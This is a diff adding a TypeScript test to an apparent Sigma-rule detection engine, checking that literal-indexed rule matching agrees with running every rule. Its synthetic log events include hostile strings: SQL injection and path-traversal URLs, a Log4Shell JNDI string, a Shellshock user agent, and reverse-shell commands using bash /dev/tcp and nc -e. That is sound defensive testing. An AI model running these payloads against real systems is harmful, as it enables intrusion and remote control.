@@ -31,3 +31,28 @@ test('every SigmaHQ rule of the data set compiles', { skip: existsSync(sigma) ? 
   assert.ok(titles.some((t) => /reverse shell|dev\/tcp/i.test(t)), titles.join('; '));
   for (const d of out) assert.ok(d.source.author && d.source.author.length > 0, 'DRL: the author is shown');
 });
+
+test('indexing rules by their necessary literals gives the same matches as running every rule', { skip: existsSync(sigma) ? false : `no SigmaHQ rules at ${sigma}` }, async () => {
+  const engine = await RuleEngine.load({ dirs: [sigma], watch: false });
+  const set = (engine as unknown as { set: import('./ruleset.js').RuleSet }).set;
+  const urls = ['/', '/index.php?id=1 union select 1,2', '/cgi-bin/../../etc/passwd', '/wp-admin/admin-ajax.php', '/${jndi:ldap://x/a}', '/a.jsp?cmd=whoami', '/owa/auth/x.js', '/.git/config', '/%2e%2e/%2e%2e/boot.ini', '/api/v1/health'];
+  const agents = ['Mozilla/5.0', 'sqlmap/1.7', 'Nikto', 'python-requests/2.31', '() { :; }; /bin/bash -c id', 'curl/8.0'];
+  const commands = ['ls -la', 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1', 'chmod +x /tmp/x && /tmp/x', 'base64 -d /tmp/p | sh', 'crontab -l', 'nc -e /bin/sh 1.2.3.4 80', 'useradd -o -u 0 evil'];
+  let matched = 0;
+  for (let i = 0; i < urls.length * agents.length; i++) {
+    const events = [
+      makeEvent({ event: { dataset: 'nginx.access' }, url: { original: urls[i % urls.length] }, user_agent: { original: agents[i % agents.length] }, http: { request: { method: i % 3 ? 'GET' : 'POST' }, response: { status_code: i % 4 ? 200 : 404 } } }),
+      makeEvent({ event: { dataset: 'sudo', category: ['process'], type: ['start'] }, message: commands[i % commands.length], process: { command_line: commands[i % commands.length], executable: i % 2 ? '/usr/bin/bash' : '/usr/bin/nc' } }),
+    ];
+    for (const event of events) {
+      const indexed = engine.process([event]).map((d) => d.source.id).sort();
+      set.ctx.reset(event, 0);
+      const all: string[] = [];
+      const groups = [...(set.byDataset.get(event.event.dataset) ?? []), ...set.anyDataset];
+      for (const g of groups) if (g.gate(set.ctx)) for (const r of g.rules) if (r.compiled!.match(set.ctx)) all.push(r.key);
+      assert.deepEqual(indexed, all.sort(), JSON.stringify(event));
+      matched += all.length;
+    }
+  }
+  assert.ok(matched > 20, `only ${matched} matches`);
+});
